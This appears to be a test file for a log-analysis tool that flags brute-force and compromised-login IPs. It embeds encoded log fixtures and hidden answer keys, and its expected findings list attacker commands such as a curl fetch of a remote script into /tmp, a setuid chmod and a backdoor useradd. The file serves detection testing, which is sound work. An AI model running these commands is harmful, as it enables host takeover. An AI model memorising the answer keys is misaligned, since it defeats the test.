import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'ipset'
BLOCKFILE = 'blocklist.ipset'
VISIBLE = {'blocklist': ['89.29.12.214', '159.1.84.180', '193.108.246.56', '193.230.12.18'],
 'findings': {'brute_force': [{'failures': 10, 'first_seen': '2023-09-10T13:30:07Z', 'ip': '89.29.12.214'},
                              {'failures': 14, 'first_seen': '2023-09-12T23:04:42Z', 'ip': '159.1.84.180'}],
              'compromised': [{'ip': '193.108.246.56', 'time': '2023-09-10T15:29:50Z', 'user': 'jamal'},
                              {'ip': '193.230.12.18', 'time': '2023-09-12T02:17:16Z', 'user': 'kiosk'}],
              'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                         'time': '2023-09-10T15:36:12Z',
                                         'user': 'jamal'},
                                        {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2023-09-10T15:39:38Z',
                                         'user': 'jamal'},
                                        {'command': '/usr/bin/chmod 4755 /tmp/.x',
                                         'time': '2023-09-10T15:40:35Z',
                                         'user': 'jamal'}]}}
HIDDEN = [{'files': {'access.log': 'H4sIAAAAAAACA8WWXW/TMBSG7/kVVq+YUBwffybZFRcwEExMaiUmITRlldcGQhJiVyr8ek66grrEGW2kQZNGTVL5ec85r48NjHKBp6RcchLh8Ql4PLdNzBkXGVMZTzPGyAuGn89kdvFqQWLyZrG4ioHCjHB8l2pBZtGMzC7rn0VZ5rGijDy/zJdF5Wu3PidvK29Lgg/Ihzm5JiBv1Bl52TSl/Whv3xU+1kxRHE6ReX6Xt8Wf+9kzYFQJ/EVBm6E8gEyITKmH8tr6tvaO+q3vCRVS7ZU2P/y6rqLWft9Y513MqQDKdjjAdCighgVxqiM+xDmf+2IZ501Dl871kFJL+XekxuxjiAwCTI7pz/DNGPNLH2nw+1TlSFIKqBZA4q1Ara0tbe5s9G3V9nTLTMiMpQ91r1ocscpReBGvbV769YF4iVFCqu7FX9TR2vsmWpaFrfzuDyfSNdZrKn25acs4oaorUIDa1K13A6KEjJkw0Vnvi2rlJvLGo5QcHRJmjrHGjDjg3qJ7UHTU1kOswGhPwx5Z0JHUdmeYt3G2dU8D1RkTUx30vycfihdymhlDSbtvjAZoGlglOpzB6/E9ivPfa8YYzOxi5SEaotRgbj/ahbnS7FEcp5x1NDnEcWzAJlNigvseafmHwKD/9lh1gv+6SJU2PGDAa4Bz8r6oNluyTfSNlmfkwi6/1sgCxrqF53XR2rt6GwNPTpGYZEIdlxnBJElA62HDO5aVYt2PY+0yoaR+ym0JLti4M+Ggg5aRatQyJ/aOKaU71DaWzk7hqe4yAsS/lKhH3dUTlsgEgsZSCTUGjZXuqyQO9raym2HQ26GU9aqoeqODkWw4+i/xiiGGOwsAAA==',
            'access.log.1': 'H4sIAAAAAAACA72Xb2/TMBDG3/MprL5iQnV89tlOvFe8gIFgAmmTmITQlHZZGwhJSFxU+PRcugFb63RpWWnTSP2X33OP7y5nEFxZLoXiBtmYnh8BorOsjqSQygnjIHZasGeCHp/Y6OTFOYuaalL5lvulZ6/Oz99HwGHEpBAMpLBsNB6xUf3Dz6ty3GTfFlnr20hyBVyMnoDgWnJL/9A2gEscokN7H9f61OfTKK1r/rldI6K05oZ4Wv3MiyKNNBfs6Wk6zUtftfNj9rr0WcHoA/bujF0wwEt9xJ7XdZF9yCZvch8ZoXmnh52l12mT/3lPYgG4lJKj5UmntsnqqvHtfc0gnNQO1jTPGrpYmUZt5n1ezu7KRgEMEn2jerpoiijm+rc3hCZ/6NsNbwCcsE7J4d5I1DZAWQtqQq6RwnFTrfFkt/TCPEJcGzYWWdpm46+zZgMphdM6jLxK2/mkSpurPuZJNZ57X4+nRZ6VfvWDgUtIXOPoUnuFOgzbH7ISDuWeIf+HpE8XV7mvArKBUjIse9FmzW52CQ6GqAkHZQKpb7pjS+pP2/XcVxjbw1kkuFRcKTqH1NquiUl1X+11+j2fViWn05pUK0JKLwCO2du8XCzZMjaXBo/YSTb9UhEDBB3AXuZNdl0tI5DxbfegRm45qoCkxEF3Di9X30pt6eF/SeH0WPEkPMhbxW/Iq1AzHADB3qoNlc6qKSoDj273Fn24uz7c1w3da3kfzejkoFUSc0DkgcFCglNIVb1bRh5cZd/N8FZuPPgOsTJX6XBiDwbqeFAFKbR2a3MdCNRO7RahNmj/JULTa+km6JGKdrCygd4jxOrBdmkER01DdmCsk9LphHj7zR6HKYi7coMD063oeNjtv7MpjpU4pGSNND7QCIGBXUW3sdgcVopqlpcbhQTbpxSkBNLdC4OYwBTZu1fCGOSDiQOKJwmnJn1Dk3e2SjSBxTRoDJ0yUAnRH9ovUCGhdQYOAAA=',
            'access.log.2.gz': 'H4sIAAAAAAACAwG0BEv7H4sIAAAAAAACA9Va32/jRBB+569Y5YkTynpnf3l374kHOBCcQGolTkLo5KZuYxHiYLuo8NczzlFoYi9db2wnbd2oTa18szOz3zcza2BUWSoYtUCW+P0zsOQq3yWcceGYdiCckuQLhl+/kMW7r65Jcpf9UazKLcUX8s319Y8JUFgQzhgBwQ1ZLBdk8b78q9hsskRRRj7/APCWfF9sHx7Jo9EftXxD3uWrX0sEAYYXkK+LKr8rHxPghrLFZ8Aop2A4laxrFIAD6YQ6NKoqb8qmps1jc2STxDv3Jq0eqk1iqHoCwDtSS7kQPRDCSeYgPYSom6wpVkm229FVXR/BcP2Es/uzWZfbZZX//pDXTZ1wKuAfTKUpWEFx2T2Ycr+sI8xNeV9sj6GU6V+SNNRoqlTPhyvHUicg0GcqtZ8A3pXLddPslqtNkW+b/Q17IEFtSkGaXqQWTAYiCcbGyRh0K6CfOSjKeZ9dBlOm44H7KrvLtlnyUOfV84hKRAD7UkA7mFW+K6um7kWW/ch13jTF9n4E8Oz2N0yVDrRxUvVDZ7siWefZpln7wHvDH75q45QHesLVKh0R4oONFL5A68D2o91m9fqmzKpbH+JBur/PVsW2Kev1W/Lttsk3BN8gP1yRDwTkR/WGfLnbbfKf8pvviibRTFH8OEWuEKkq/v073ElIbcwOi0ucfxBIpQNyTyBtQMsqkxCC10rUEx6WMy1jmZSJ2Q3kQ9y4Z3CTwkhKLDG/rKG2T4otMqpDBT0w7liAWYAyCgRhkmrdBeFsX4fIIWIsQb8Eid7nKcq/orp1/g06CXl4WZWIDs9KII7U7aXQl9j7UKCPIP+L9xGe7ujnS/vz5CCDpaDbnyfpPDRJ6c4e+Z8qUKLYvRRwg0kvW1/04OGFWR+Op2FCUjX4m9bUwLN659BYaBN0VIkNwsT/zJkjATYhT+lIOYx1A3cMYl3vzc4gXJ+yBVFBAAISnx2BdAKQpDd9w2umIBglYkM1FEt1+sOgJZ2JP3Sn1QwN9ZkMTpF/Ijf60EgaL9Qg30zCd/YE8hnqB+sUuzC+x8Istqud3jbw7qmptIijFrFXQzqce4M3gV7iq2/0Mg2abwowdsyxNRBjTAAm2QMKr3ncgB2LiWXC6f2QOqZek76iwcq8KoNNZwgQanBsxlmUn1kRBYuj94FCjzAyphqPXRV4iXnsUk5w71jj/FyJxsW2WycIFaL6NvoFlgxCOClnaUlF9yDsYipLoRzjs6hqe2o0M8dp76R5OkRlZ56didQ7vJlqlcY7rbuA+kjYOMkZuKnbE3W4sBa2PaGaq4WX0JlpT+Jm7kDMACO8Jf8FSpeU3hYg7ug/AFJ5y53LLOLR4Khi5BQfaSfTmdlfpt5TiilWaByfb8wirZdiz19io3HxIjiQnRTzJtYUXZSC6G70hGgjqkznR+Xeyer4YcTXS+0DlPCm8/ltk46LUerN2dQHTVZyxh3r763GrJIUNlRm0nNilXqfXjp/GhrvyOwsz8cFWSxOrmoncaWNO9GOJnosmJn36cbxd+QeTqoJtwoigBP6lbQssn3qCuauKeT+2St9kXQiP/UoM0zeZHuJ9Cx19N8K28fPjzEAAIk0HKy0BAAA',
            'allowlist.txt': 'H4sIAAAAAAACAx3MQQqDMBBG4b2n+MF9Gk0p0tuMYQpBmZTJjNLbG7t88PFGVFfUU1Dko9RMPZsrvyF8sILMKG+sbZhiWFJIc4iPOQIYcfgurLSWvdgPLZP0vN0rTGm53fPv1n7wbx/aWXUbLoz2ijFzAAAA',
            'audit.log': 'H4sIAAAAAAACA+WcUW8bNxLH3+9TCH7pHXCgORwOhwwgBD47uStwvSva5DlQJdXWIZYMS0rbb39DrkQq1q61tleOKiFwdkWsVzs/Dsn/DGe9+ONu3P/487ufPv384eKnD73b+XV/sBxNFn8FFyxa9sEpovDGO0d/e9O7m4z6ANpjbylnujeoDvPxvO8d9ubLX/7XX06Hs+mvk+l4lG733eyu/+PFD2/kmvlkNv00uxtPe9f3g+lidj/v3w1uP32eXU+mcqO/xw/j6Zd0vBvf304W6XQ5nfzeGwyHi/7Z/Wy2OOuNfx/3z86X8/vz+S+T6fnwfjY9693M5ovp4Hbcf9sbjEb3cljEW0wHn/vxgt69PON8ORzKY3z38fur9b0uyvlfFpnG5Q9XWyy89loF9pGFW7HwTkNCAVqbikY6i0AwcD2Q4W8jefyb2e34PD7fWW94O+qb90yMbMx7Z1xw7+QzcpAf68hduXi8NJqNo9QGbNga7d45jlez34ASmcyXo9lZIXC3mJ/jNoLq6y/K+QaCi48f/vWQAWEIqKyhyIAzA2M23cGaYINjEyhh2Pz4iHsMloub8XQxGQ4W4iXFQd6uer561Ac9P5/fjDZ6HjQqCKzAaMW6coMHbZmI/Gri8etg8nk82vaI5XQ+XuzkYQFQISQePvOwdv88akfCAfBwpIASj5B5OHuy/mFIbu+M8GCdeTCdrH8geEUY/YMh8/Cn6x9EcmuMawqbNQ/W7mT9w8ttg3GRBxYeYX88HgiMfblJo/LY5nJ5+aGOCyjNGLnYbrkMh7OlcJleHzCTf//3n9//px7KavBQA5SixnQjhqQ/e+uLH7fz7eOmnY/GX84bxNamhRXSOtlVozyJIOi1oVl5Mtom5ekNvkh5OnReNOd7JwoTLbLoPjJarrPuiuVo9qE3aw03RGvDuRgemg0PLzRcBPZ7kdMisEXVanPlLjs3tDbSIiffpjgpSfYl0tK0HWlZq48n0qqlwYwGFbGNNEKhQTU0PITjoVGzKFqtAbWIJi0wfBaRXobg4Ygmw8ogKec3psfS1qlIEB5Gg6IQZwWfRaQP5gR41I0WC54dKw4QgZgyWkzNaAF/3IPFsGGvNMSIy2cFGfAVnONu8GX8ead3AChjjLKsAq+c46umbseK4PByZ59wZOEYrD9VHNaT0hTjC58lYwj+QOKt16bBEFfZmN31a10ZtOGjp1E7jYplDApDDLL8Wm2CFr1ZM40iHfc8isIClHNpTfHZNzyf5EiJNILcPY2UkGkEe5rTKBJYwaEjjrBWpAEMniYO0uhFc4QYrQTIOBzsH8f4drKbhlaGpLesAsp6dLOpaxoiSBUkyRFMpuH1q+Xw9gPlRRm8FRWTNHrAbqnszuB9ayJ1+bsVEnRRjAXbgCRlQCIM9qFVAo/aJvBqTcv5O/O4hRXQfLZLWhAEj8raZGreR5cZw21LCw5HtI9eOxTYG69Ix/g9ZNmJBl5lKFz/Np62GApgJViXaYwg+8tGU+dDoULi04LKDUjEubGCAdBqKGDroVBnWh4K9nELK6D5bFfnBy8BKVOaB7OuxE7i8+463yuOaqHwWTd03vEJh0/pihAacOSO900VJc/v+C3DcrfTc7t9O5FvnTaWlA30xrPOghHJ9bJ9X1uKZHYm8qsn+Ga1M9XXb8DYtQg4I8pZiWCOEKDElwjbiwBqPO4Uv2VtDMsqECINU5ZErlkSnT92Gt5645T4QqSBxTdCqMk9iGo4ahqkiV2cLiDSsMU3yGzTkCF95DRAYGhFxkQapQgTdKibN/io81JkApNT3tsIw2XXiCL+IBJTPigAJz8xsMAKwoO2TsPtCIRRiVSMQErWEvyhJGO+AZHgrJIVPhLJW+lxuTkFF9nW3IQBYvYS0lIbCpBOylS7Kh9SJAhsrOehrE43mjoW3ismqKOTgG5ikgtLLPpuy4dqbWubfWiuHqrv/lha4inqTii609BBdb8Vz5eJTOKEjGijqfvuj0xSoSGDaWKSu9/pjqvHam3L3a+f3f010yEGzyK0Ia6YUKSlBEoHk54GkhhUDryRbClN3a4OgsODIoxKG4q2NJ5OFgcp9GlyKJlJBH2iOIKWweJ9xFHkJaI/tN2LJ1J50e7FCkuAtFpyx1g6277YG5KGJSQxidUTDL6JSd6/wEfi1OftX9TZ1jZ717x/UTcqrGZZLUWYRlOLgERLh1Jy91T58KJJwmof6/niWyxsinZEdqeKQ6Q067iEmKIvLZgTxREwKMcxIDdFWlqLp4pDwpy028cGN3DYk8VBykLCUeSnfQ01/q1x1AgLi9bK7TkKC1Pkpw2vUxfRrppIK6fAsSAoREpL17qiQkKcplPXhESUAqx0RStZAa1lRY1lbQPTFc5y+uiuoFhKmpQ3yVLesBR72cSvjWXvdm4Lrh6i4QUf6+LbTf9wJK2iahh37/3VJGNW37Fp9a5xL/9AYUrim6IWaZ9Jyedtfouykf9C9of1545DigpIKgQQAzsG0lklwB5g1A/6RMPbSAN1E428PQ5Bd1wIsGVY2zcZn1T+QaSdNUoTRzuLVnThdXKRw5vJaNKi272KyXgq031u6LrjKyCQtsHRNAGRrnRVBQi16nfXut+3DWtb97NiWU53zIAEiE6ZEGdAxA1LXy+10na5B5E6iAptibVzS8fTYEWFXKJiO6bSnQDaE5H6IZGQuJSwRmpCkjVB/OsR3SqgGtPa5lWeqIAIPFrFqS4Ki9aTnm1SQE2v/rYWQBcuthn3zoG7XJdGmSsmkUMoD9GiGAqeKohqyxocxP0vTcl2LmUNUFfyYv70ry3+H5DCMjxqSwAA',
            'journal.json': 'H4sIAAAAAAACA91d224bORJ9369o5GkG2LRZRVaRTOAHY5KZNTC5IPZiMU9Bq9VKtGNLhi7JBIP992W37ThK7IgtVSRSiWAbki86h+cUq6pJ9t+P3r598/zk9/PTF8/fth/Ozk9evH70pHgE7I1mY426/vfon8Wjt/96dXb+8uTF8/YbPlTLi8XjUfN40L509sfZ769+e3v67PnL89NfT5+/ab/llzevXnY/9/r0Wfc7lUPfPvH6zemrN6fnf7RP8hc//uvJL6e/3zwP3Z8M7+js5LfuD15Vl2+Xk/FfP9Wz6eTJvJnPx9PJz0+Km6+K6VUzaYbFaDorlvNmVsym08VPy/HwWP1cDD4VN18++t8//l4LmiAX0PXFdP416PUQrTXIkhA92uTHtQVtcwG94bg6Rlm/Uvp+bUHbXEBvNq7eGwugiBxvAnE+fz98fPMOvoTqLG2u4NPJh+piPLyGMZ1V9UVTjGbTywKULgFtiZpKdsXVdLYoNIO2eeL8PKLtb39SLRfvw3DW75v6z+Kqms+fXhOwnPw5mX6cHBDE9lMzWYzratEKd1SNL5az5mlxMX03qS6b46LzZ9Fcf1osPh2Hny5mLRvHxez9dL44XlVCntz8GnAHw7ZD/XE6u3buuLf0i/DeMIYAdl6FhOF6ZtmEgFXgzsj4e1K9G0/n3wPJrPPCJ+7rxKHtxc/pcLLWx1ESj/exB60MaiUC3Cm/m3maEA3nhU/ex2lD24+Pk+Fk6/m4k3i0j50j7RQBygA3nLgYio7E46vqQ3ORFz/3CaOD8bAUGJFNnBSMUgBWOzBaCCqhTEhfNPPFwxANW3R5oZMN6OlD231AT4qTtQE9QuDRHkZDTmk2LALbK8ojnEd1mZKi5z5VtCi+k5+jVRQrBEStBVuGAApT75O2oI3JBfRGfVKDNuR2RFpvno/c20DyqMQna4ASEUtjS29vQpmniCZpkiCF5+xsIEoE7C+FkCc1fabwB2QfGbjRhiIUPFhlZNGHrEm+wfItVjKOIE+Y4hbPBOI+LJ4eNf3aLg8IP9rk1rFlF0oUiTzUK23SlkSvpktS9KxrunwrBG01UA8h2KAb41kGqVU7ifJaW+vzgice3ROHto+ong4l20bzTuCRJtYh8rNjp1AmXIGCQ4rmKdHTP5oTeRfbQTfeIgTVajYySM3m6cxJXTdXi+9eLijJl6ioBOSbOiUgwAyxrop+fX+pY6HrKoFS0K/HRDpgJ2WNV5Kpq0dg4bFeXlazz0OtKQy1KtHo22uEoSaNHOoUIfcd8paM2xE3PUfcgNPhYTfMRpfD6Spss3k2WhTXw/qkOD//4/hqMT/SxdPi9X+eHR+9n142R92LT4t/nz1/07XEw9e/vHrx4uRl+IblfHY0H4wnR8vRx2K+qBbLeV7g78Y8/Nb+beRVCURAJ0OhCiHnSCTC4RaLbmOiOdiSSyC8ufIbBo5jDZ4Q0p3GcnKKCUKiiTLi9ryNs6+H887aZsXa169+x9uttYfT+s+WlHle4Ld09lcaiMBuNRnRBfUAyV8dC6At5QJ6s6tjrJG18R5IptTQrAVC9nJwMQ62/NShuRxPqruszJQhhy493SRlnug6Zj8pnj9DCu4szv51gsRPhiOrArpaexh5rllVlkNBpWq06C0PG1Jeo/cDqPOiqW+8b/m7tTr2MwAb5QEJEbxoHqu9FZ7YV0QS5nVbApjbNnN84p4i4J2Od2BNGaW9EZnhDOhtpvduUO9md1iZ3bsX10zui2p8UTyeFKSKow/V7Ohi+u5o/mkePuXFxZaz/aoiYqD78HaBwgeRaGcMS08K7z42kzu/h4cLEwN/vnqsnHpgVqioGVQe2gWqDWnlh01Tk/VGKz3wQwt+MFJm4EcO8uKpb5RoCbzVhO4ZJchZAnRoZIOksSgtk6/qPS4RS6Sbjg5r5x5IHmzVNDBosDG1HbBqqjok/1pV3AS5gAUeGfBUu/BMnnztsmhkxraBwMxKJpJaLVk0Yv+i8b/T5WxSXdSLMLssWwXlRcKui0e2JpjOBQKcqAFoi8Wk96eRzeX4LlwgtA+AzzsDQjEYm0cmiLiv5VsubkeZejreejCh2lJGplNC2+WR3ag+ZPjuxTV+Dznjorls7T5r5osqiGHybjz5Ky8itnT9qhzWQ7cWw4Tq8GaD5tbJEekUN82VTpcay1Ap9LvEmxI7a3dJfQHy+lK/Mzp2f0ULFJFCRi4E1Ahte+0+PAQQWWeGTXixTvLQhN2bFyNr1+qsFXcf9xK2iYwM6BRX4n4bxNviOC9y7lPESo/kaxGAim6KWmtUKHktk8wqNXKYgwjahCcvcu4TwUpF85UIjDLRuywCTtKGrPUyV0BY6RxEEHcVLSVy1u2S/FoE5OPL2oDTotMAxgrhpIPK6dNhp3dOz8pBj1jgDDBJ7TZg3EVOr6zJDJt4Tp84tD3k9Okwsl1O34o72r1WK8Mh0xDdSuaZ9CHl9umR1DfHN+CcjxeF9c6D9iiL1+lDyvXTI6lvzk9K96j+rbcKrBdeDWOBDyn3T4+kvjWAcQ7iReEopIpsURivsQdVC6THUv8+P6OBeFl4Zm+tkmmGWcs/viYgbYnywiZeEyQObQ81QTqMbFUTdOKOdq9Hh6iBZdcrWAeHVBOkR1Lvvr+yFD/Te+3aDeoo4wSn4JBqgXTI6VsDaO+jdy07w9prVCxznKsXO7a6Gl6OV2XOJRpzu1bLA+QFTnhiTx6anHm7cc+LkbUT+3p1x/vX2VCIkAfRScuh0G1iRourb7KYL7Bqbi+nZAlT3tF5QNyHs5NjZq3DY3Qf7XEXsjq2FpxMZNNC3p4vrzowD2FUJqb8TgmeuKcTh7YHL6fDyFoPx+g73sMulBRWgZaNYSZtRfSqwFMkKaoC/0IUBOHdx4qClPUq1G1Asnid2kERRk5F3DgoSZDSYT4XiLsP9wkys11x1qm+j78Naq1lVxlsc5eFPsUZo/KcJ8wf4fAcIO7H4Ykxs21x1uk+2uNAmpQmL9Mo9rib4syEQYO84Il7OnFoe/ByOoxsW5x1+o73sCXXwpbZ5OE1HFBRlhA5/YsxRyZaBKhJIzstswHQE+2gCGt7ECovcOJhPHFoewjj6TCyXbHVqTvev6zIaCXUWfQedlJkhWkKfV7w5B2cNrR9ODgZRrYtpjp9R3tYG2tC+NKyV/q8591c8fLeQZ4wxT2dCcQ9eDs9Zra+EtbqPs7jpBR7JXnqslcq9aOmA2iLOhfQGx01TYqUAUmI1tr0xzX8N7mA3mxcQTtGUen69P0aQPtsQG82ruiYGTHIV3Qeas+MlD79e/6hfjyvq8nDvT7iyIUYacLue3bjLSGdnoO0+okbPRI5Mg5EOnrtqdPpnfjjfAnA7THxJZC+6Xi2J2Vnxs99qdndafhfobzZGIQWY93gNTE6zRqEoJJQpfW+Gk6nV99B2RkuL4CyNVYG2MR9nBkpa+uqKJVHe9kYDgmpld2pHhiw+rDCe4I89Q/zmo2HaGkQsFbIm0NehQpKHZYkEuJnAym0+1ajpcCeATTK3ruyXfXK8nfavjcmthV3pkDFM4BcMO4lE0iQnF634X5Q/dFetyrEBibvhBkgtRuvt33yXIGKez0XjHvxeoLkbO31Tv3RXveaLREo4awWvPoB107vz2jZmkyRips9F4x7MXuC5PS7hPqg/CPd3t50LAS7kNoIxzsyTvombfX78XD8uXVvsDRcOnt7OjUrc/892gYaVTWstQMajCpdMVVY1aig9sMqPBpj66ZuFDZ1pnz17fp3RN7eo4f79fzbJQfgEDxYYQKIfqxgfImIpb25I7Bh/9BN/WQFkyJfuxUMt4epGJbduRcI4CSPjEUojS4BqVfjKEmWvt9AWsF6PfFY61zsxBMAszHWEwoD9uqwZJEcS71lwRS7g6YFbJR1YLQwYE5zU9XGskiPpd6ycMSmhyyMQiCrZPrqbPCw5JAMO31lQN4wx8ugvbsqaTRCQBmElxh9D2rIObXLEWrffHH1RvK90kVi5ZyxWsluAwdlRYZ6pb5YOTvTmBK1LVH527VkiPr+AsPUpByOPA7rhoYMTc1g0NcDGoIeUEMNq9GgciNuMiVM8h7C/wfUZbZEaLwAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MsQrCMBRF93zFHXUo1nayq7iJCMYPKLcPDKZ50DwK6deb1Z75nAP8cVeOERZmGXCgxig0mdC1Xd+0l+bcHx12+Cpj01SLm/H09lf3KtlkBqPyi1wSP4umsMk0oEjeHR7+iSzLGlgPIy2s4n7QWcuDlgAAAA=='},
  'host': 'vault-fe',
  'truth': {'blocklist': ['89.116.114.153', '103.127.235.68', '103.197.120.70', '193.131.215.228'],
            'findings': {'brute_force': [{'failures': 10, 'first_seen': '2023-09-11T02:31:11Z', 'ip': '103.127.235.68'},
                                         {'failures': 18,
                                          'first_seen': '2023-09-12T14:34:09Z',
                                          'ip': '89.116.114.153'}],
                         'compromised': [{'ip': '103.197.120.70', 'time': '2023-09-10T14:07:01Z', 'user': 'mina'},
                                         {'ip': '193.131.215.228', 'time': '2023-09-10T18:40:57Z', 'user': 'reports'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2023-09-10T14:13:10Z',
                                                    'user': 'mina'},
                                                   {'command': '/usr/bin/crontab -l',
                                                    'time': '2023-09-10T14:14:15Z',
                                                    'user': 'mina'},
                                                   {'command': '/usr/bin/tail -n 50 /var/log/syslog',
                                                    'time': '2023-09-11T20:28:34Z',
                                                    'user': 'mina'}]}}},
 {'files': {'access.log': 'H4sIAAAAAAACA9Vc227jNhB971cIfuqiMMXhTST3qQ9tWrSLFkiALlAUC62jjdW4tmspwLZf36GzKBJLNCRKouXEsZEg8BnO9cyQNFACgoDJCBMsWeL378DS22KfMsq4pcoybblMvqH49UeyuPnuLkmrOq/LVZrv92RVVckPd3e/pkBgkTBKEzD4RovlIlns/6nXu+3yUPz9VFR1lTLCgdDFV9oQjZjACWO0FVMyC+I15sMh/5Rv8/QFmqCAaPIZbPV02KSayM4AkrUD5PsyXRf5pl77oN7t/i03mzxFrOTr9wBvk5/L7dPn5LNWH5R4k9wUq8cdQgHFByTfl4fi0+5zCkx3FI5bAe3CVUVdl9uHyifazW65ruv9crUpi219/IcugMJCIODkupAWaLto93m1/rjLD/edZHuXr8ptvavWb5Mft3WxSfAPyS+3yfsExAf5Jvl2v98UvxUffyrrVFFJ8O1kcotIh/L/3zsKLHq67mXkxMg2gYodENiZZdmkga3xOTSwA6NHWwmBmgxENFZkoYsMNV5mKbU8ME30MSICAT7CgAasDryuOcdMgwIzfPSLpRB3OwKJcYplNNVwy1TEkDwiShk5nSKqiJt6EFEiIRyBKkTzBIk1J3oqUV4lPVXF4UJkKnMPkFeV4jLkpqGZp2fN0VaoeKQbAbGIy6ixC9TbV5x1y36KBCzeegwnmyAAULbI+RJYcC83uTLc8zx7YBRODBAu0FTSCzmVc6jeDC68KCGYrzG9aFECbAlFjK4CgWQWp5iA9jZoZ3U9wLrGMohZvhBQwlB3isUjGEXrx9QOAkoV1QEYeDnn5bM5w1bVxEp0CCZFjL6Y+bvMi2ZUJlC0ALkCtSAxF8QfRiGs0LOfs6Kcyjs8mWXDzDLL2Uzpu9uKgjgVnJkrmwZyaikPFLifahBJ0qsaB3Kwgkdl9px5CcfoQL4pwnTzLe4vfGPHIRfYp15R+uTSK+8EtZf7NxvH7Z24f7dw5BW55um6kktmRTRuy7W3zZuor+DGexRjCoc2VtA4mUXQkYhOLEcTEEbrw20v/OPSqYZwAgunmue8FEXz9fQXE4l7WepFO1CUS+qohEuIYB4UCCi90Thl2yuUpVe1hYcCCxWrPIrsutii0N6DdzO1prGUxm43EDRy+yapN69eugpJGNB7hdtAstjkQ3IvExhxt9odfZXzKuookriu+Yo780pjFl+pLOczs1rm3T2e336YHDDkHRDROkxFgT6isZuMh2bCmHifbKXdCVxftpqmITtCSjrHUqjdid3w7YBQN9bHc7eXOeAEWhLGM6IkUQYlWxeb/X1RPZ6IaJ5T5DySUXeZjXcfccJe9lS8x3LXIhsg6aJXpk931o3Pwk2/wC7z+7/KbVNOYXk2fIbd0ZDKm806p+mOSMa7HzdkWX5zG2/rG9Qk9QEOb0gmCBD0SsKkS+GaMBBe0Z3fgbebDaZBTfgW/3DYzHtRKaihauKeCTuHLxvXOoP2i7uuVyB1YQMjrzMWjHRpsH/qo0QwwoQhSjTJgzth2jycdP42bZaxM0FKCSgCCNdKVtyRT9lgwScI0uiIsdhmMJeTvbdnRnaO4+U5GnWMj0aSRCiiVdNCjLrNdK5HCMRXMIdivzvUVRtYr9mCc5AMf86mHkTGlYJhBBXQukZhvL1Y3zW+QmrP7M+AvmP3J6sTYPh0ZK2rvG7gCD3twhQVM5Dcf1fzNHSfs43MRgqqzvJ18ASOquQaQ6fV5RQxSIaQXjV9G9wJFc7GHYmfYLYH8zOy6B5Vx1jusEQvnOx8EuBoaarF2crVEbPXBTAHrAzmminjoovcymsafzxLPsA4WZdPzDgyCqrUeUaBaxX40pbKmeOtp3S/QVmoOW94LNIZvkD2BYG/aCjAXZk6Hetsdg9IYRuJW09pZkesJHI5qlqkdJ9P0ti6a9gTutRNhuZlmKLaQKRoKPsFW/zzNOQ4U/o85H8OSIQi70UAAA==',
            'access.log.1': 'H4sIAAAAAAACA8WX3WrbQBCF7/sUi68ailcz+6fV5qoXbVra0IIDDZQSFGcTqRGSKq2L26fvOIYSy1IiF9u1rQUZsefjzOzMCIEjcsOVYFP6fkWMZr6OBAjpIHEydipmr4A+39jk7M0Fi27Tn/m8Kjkt7N3FxecIOU6YAKALFZtMJ2xyXv3OiyKNNAf28jyd52Wo2uyUvS+DLxj9wT7N2CVDdaVP2Ou6LvwXf/0hD5EBzWk/zWbpbdrkf+8nL3ANCtzE26QITqDTZpO0qa6r0PKwDF1QK2ENelZNsxDq6bzIfRkenlgpiZgLUHT1uILCaek0bGp1FKSS5kkFTLiyXOme/Y0Dch039y+qu7zsisRWHtJvTWmRcCFFL6QWDjom3DW0S5k+NkMBMkz0GnO+aIrIcqLc2j/zRX3j2/teGdEvs2h903Y8sWjNsTx5ilkNMN+kbXZdpc1NhzsG0cd9iXjKPublYsmW1lwZdcLO/Py+IikE+iF7mzf+tlpGKOxOtkondrBVG4lHxVM7RR2F2Ree4igtNz0pH6+OPqXF6Lhu5H79K2RVOW38j4VvQxsJLnFLcsCPtXI83g8h5UEr8ThiPUCc1nmU+bQIWfcQKNiLWZL61jizJChmQMT/2yw1GN6hgkEJbPd1IokQJE/6kt5SkXcC/jHp94rW+LpqQtsLuEO1XYVcrJZDdgnglm6pKG07mtC5oNFqXH4Ou3kQ1vu82srOB17E3bJTg9xbCozh0/jsJPIQ9/4ue0wvrZM4vjbFMhHH8zHZPc5GyN7ZTgpq8SRHg/b6CIhH7xXggGxIxr5XYKLUs31hrWlkjxzSLEHrplwb0pDPqRfV/Hu3fcrEJsPT+x+B5ze3Mw0AAA==',
            'access.log.2.gz': 'H4sIAAAAAAACAwGZAmb9H4sIAAAAAAACA81XTW/TQBC98ytWOVGhrHf2e7cnDlAQVCC1EpUQqtxkW5sa29gbKfDrmTQtahynjUM/cPbiyJ739s2b2TEwqhy1hnKmyBh/X4ElR6FOOOPCM+1BeMXIK4bXNzI6eHNMkqY6q2JL4zySd8fHnxOgMCKcMSKlsWQ0HuFz1TiLsR5PijyU8eqJF8AoUA4IJXUPlPNce8VXoboASqslwGH1Oy+KNFGUkZcnAPvkY17O5mRu9amWe+QgTC4rjAwMF5C3eRPOq3kC3FKGVKxCJo4CE1Qs9n3RpOdpmY7T6Y+8XCUG4JX2vKPB9Qu3CUrEAafuEKCLeplX7WUHjXsGnvNhaCtqHKaTvIxVm+2T92UMBcE/yKcjckJAnqo98rqui/AlnH3IY6KZwqSAIkcI0OR/77cny70S/WSnaZudVWkz/Q9Zo6/dQ7Ae7jysN2o0BeDrNYDMuPHCrjIrqgv05GohcO30ks5k1hSJxaDL4LgMxYJdj60Wi4stYjtjlrHrXzGrynETfs5CG9uEUwHXOJIKQcHJHiDnBSps7gcCdgP0GE6QesGPgrUUDKzz5Mwz5Zntt0Fa50kW0iJmT+neNc5ZKOpp6Dp4SR1gV+ob87qG39MPr8H5juWz4tcB+12cRP2QbYgxLy/aQa14253qtZJ5jl48QCfj5QbCszY07W5p2SCOQyfs6sFdfeC8ss/TubcniSMDH9JXrrquYe6flEHQTZnvBRVMEmUFe3pthiRwwdIIePIM8iHtZpk/Z3pPZLk8KnuOZFwS7Sy3na45t4/XYnB0ENThrbz5DoBbwznDqcRDJ29tTGM+QXfV9HtXDgBl7x0iDDWWatmDx71QXrA7PwZAM/MQtvgDE6